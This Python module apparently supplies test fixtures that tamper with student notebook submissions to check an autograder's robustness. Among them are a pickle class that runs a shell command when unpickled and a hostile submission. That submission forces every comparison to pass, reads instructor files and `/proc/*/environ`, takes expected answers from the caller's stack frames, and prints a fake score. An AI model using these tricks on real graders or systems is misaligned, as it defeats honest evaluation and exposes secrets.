"""What happens to a submission between the student's editor and the grader, by accident or on purpose."""

from __future__ import annotations

import copy
from typing import Any

__all__ = [
    "add_parcel",
    "break_syntax",
    "delete_test",
    "duplicate_cells",
    "edit_test",
    "exit_at_import",
    "lose_metadata",
    "make_hostile",
    "save_with_colab",
]

Notebook = dict[str, Any]


def break_syntax(module: str) -> str:
    """Lose a closing parenthesis."""
    return module.replace(
        "h.reshape(1, batch_size, hidden_size)\n", "h.reshape(1, batch_size, hidden_size\n", 1
    )


def exit_at_import(module: str) -> str:
    """End the program where the module ends, as one does in a script."""
    return module + '\n\nif True:  # done\n    import sys\n\n    sys.exit("all answers written")\n'


def add_parcel(module: str) -> str:
    """Add a class whose objects run a command when somebody unpickles them."""
    return (
        module
        + '''

class Parcel:
    """Looks like an array to whoever asks politely."""

    def __init__(self, value):
        self.value = value

    def __array__(self, dtype=None, copy=None):
        return np.asarray(self.value, dtype=dtype)

    def __reduce__(self):
        import os

        return os.system, ("echo unpickled > unpickled.txt",)
'''
    )


def make_hostile(module: str) -> str:
    """Replace every answer by an attack."""
    return _HOSTILE


def duplicate_cells(notebook: Notebook) -> None:
    """Copy a test cell, metadata and all, and a scratch cell made from a given one."""
    cells = notebook["cells"]
    position = _position(cells, "test-rnn")
    twin = copy.deepcopy(cells[position])
    twin["id"] = "a1b2c3d4"  # Jupyter gives a copy an id of its own
    twin["source"] = _lines("# let me try this again\n" + "".join(twin["source"]))
    cells.insert(position + 1, twin)
    scratch = copy.deepcopy(cells[position - 2])
    scratch["id"] = "scratch-of-mine"
    scratch["source"] = _lines("print(rnn_params[0])")
    cells.insert(position, scratch)


def delete_test(notebook: Notebook) -> None:
    """Delete the test cell of mha."""
    del notebook["cells"][_position(notebook["cells"], "test-mha")]


def edit_test(notebook: Notebook) -> None:
    """Make the test of gru pass always."""
    cell = notebook["cells"][_position(notebook["cells"], "test-gru")]
    cell["source"] = _lines('def test_gru():\n    assert True\n\n\nprint("5 of 5 points")')


def lose_metadata(notebook: Notebook) -> None:
    """Save with an editor that keeps nothing but the texts, in an older format without cell ids."""
    notebook["metadata"] = {"language_info": {"name": "python"}}
    notebook["nbformat_minor"] = 2
    for cell in notebook["cells"]:
        cell["metadata"] = {}
        cell.pop("id", None)


def save_with_colab(notebook: Notebook) -> None:
    """Save as Google Colab does: format 4.0, ids in the metadata, its own keys, outputs kept."""
    notebook["nbformat_minor"] = 0
    notebook["metadata"] = {
        "colab": {"provenance": [], "toc_visible": True},
        "kernelspec": {"display_name": "Python 3", "name": "python3"},
        "language_info": {"name": "python"},
    }
    count = 0
    for number, cell in enumerate(notebook["cells"]):
        cell.pop("id", None)
        cell["metadata"] = {**cell["metadata"], "id": f"{number * 2654435761 % 2**48:012x}"}
        if cell["cell_type"] != "code":
            continue
        count += 1
        cell["execution_count"] = count
        if any("print(" in line for line in cell["source"]):
            cell["metadata"]["colab"] = {"base_uri": "https://localhost:8080/"}
            cell["metadata"]["outputId"] = f"{number:08x}-0000-4000-8000-000000000000"
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": ["(saved by Colab)\n"]}]
    mount = {
        "cell_type": "code",
        "execution_count": None,
        "metadata": {"id": "mountmydrive"},
        "outputs": [],
        "source": _lines("import os\n\nprint(sorted(os.listdir('.')))"),
    }
    notebook["cells"].insert(1, mount)


def _position(cells: list[dict[str, Any]], grade_id: str) -> int:
    for position, cell in enumerate(cells):
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id:
            return position
    raise ValueError(f"the built notebook has no cell {grade_id!r}")


def _lines(text: str) -> list[str]:
    return text.splitlines(keepends=True)


_HOSTILE = '''"""All answers, guaranteed."""

import atexit
import builtins
import glob
import os
import sys

import numpy as np


def always(*args, **kwargs):
    return True


# Every comparison is true from here on.
for module in ("numpy", "torch"):
    for name in ("allclose", "array_equal", "isclose", "equal"):
        if hasattr(sys.modules.get(module), name):
            setattr(sys.modules[module], name, always)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
atexit.register(os._exit, 0)


class Agreeable(np.ndarray):
    """Equal to everything, near everything, larger and smaller than everything."""

    def __array_ufunc__(self, *args, **kwargs):
        return True

    def __array_function__(self, *args, **kwargs):
        return True

    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = always
    __hash__ = None


def read_hidden_tests():
    """Look for the instructor's files, and print what is found."""
    found = []
    for pattern in ("../../source/**/*", "../../../**/source/**/*.ipynb", "../**/*.db", "/proc/*/environ"):
        try:
            names = glob.glob(pattern, recursive=True)[:20]
        except OSError:
            continue
        for name in names:
            try:
                with open(name, errors="replace") as file:
                    text = file.read(4000)
            except OSError:
                continue
            if "HIDDEN" in text or "points" in text:
                found.append(text)
    try:
        print("In:", get_ipython().user_ns["In"][-1])  # noqa: F821
    except Exception:
        pass
    return found


def look_up_the_reference():
    """Walk up the frames to whoever compares, and take the right answer from there."""
    frame = sys._getframe()
    while frame is not None:
        for name in ("right", "reference", "expected"):
            value = frame.f_locals.get(name)
            if value is not None:
                return value
        frame = frame.f_back
    return None


def rnn(wt_h, wt_x, bias, init_state, input_data):
    answer = look_up_the_reference()
    if answer is not None:
        return answer
    read_hidden_tests()
    return np.zeros(1).view(Agreeable), np.zeros(1).view(Agreeable)


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    os._exit(0)


def init_gru_with_rnn(wt_h, wt_x, bias):
    builtins.len = lambda anything: 3
    builtins.all = builtins.isinstance = always
    return Agreeable((3, 4))


def init_gru_with_long_term_memory(input_size, hidden_size):
    sys.stdout.write('{"points": 2, "outcome": "passed"}\\n')
    raise SystemExit(0)


def mha(Wq, Wk, Wv, Wo, X):
    X.zero_()
    return np.zeros(X.shape).view(Agreeable)
'''
